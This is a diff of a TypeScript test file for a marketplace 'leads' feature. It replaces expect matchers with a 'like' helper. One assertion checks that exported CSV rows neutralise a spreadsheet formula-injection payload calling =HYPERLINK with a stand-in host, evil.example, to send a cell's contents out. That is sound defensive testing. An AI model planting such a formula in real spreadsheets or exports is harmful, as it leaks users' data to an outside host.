@@ -12,6 +12,7 @@ import {
   type ShownBrief,
 } from '@marquee/contracts';
 import { eventually, type Bearer } from '@marquee/testing';
+import { like } from '@marquee/testing/like';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ask, listingFact, requestFact } from '../builders.ts';
 import { MatchingMarket, trader, type Trader } from '../testing/matching-market.ts';
@@ -112,7 +113,7 @@ describe('leads', () => {
     await market.request(requestDeclined, { ...sent, version: 2, state: 'declined', answer });
     await eventually(async () =>
       expect((await leadsOf(seller, listingId))?.asked).toContainEqual(
-        expect.objectContaining({ state: 'declined', answeredAt: at }),
+        like.objectContaining({ state: 'declined', answeredAt: at }),
       ),
     );
   });
@@ -147,7 +148,7 @@ describe('leads', () => {
       return file;
     });
     expect(whole.type).toMatch(/^text\/csv; charset=utf-8/);
-    const asked = buyers.toReversed().map(({ companyId }): unknown => expect.stringContaining(companyId));
+    const asked = buyers.toReversed().map(({ companyId }) => like.stringContaining(companyId));
     expect(whole.rows).toEqual(asked);
     for (const row of whole.rows)
       expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\?""&A1,""Open""\)",/);
@@ -181,7 +182,7 @@ it('briefs are shown as their owners want: named with the company, anonymous wit
   });
   const label = { media: ['svod'], regions: ['asia', 'south-east-asia'] };
   expect(found).toEqual(
-    expect.arrayContaining([
+    like.arrayContaining([
       { profileId: ids[0], visibility: 'anonymous', label },
       { profileId: ids[1], visibility: 'named', companyId: named.companyId, label },
     ]),
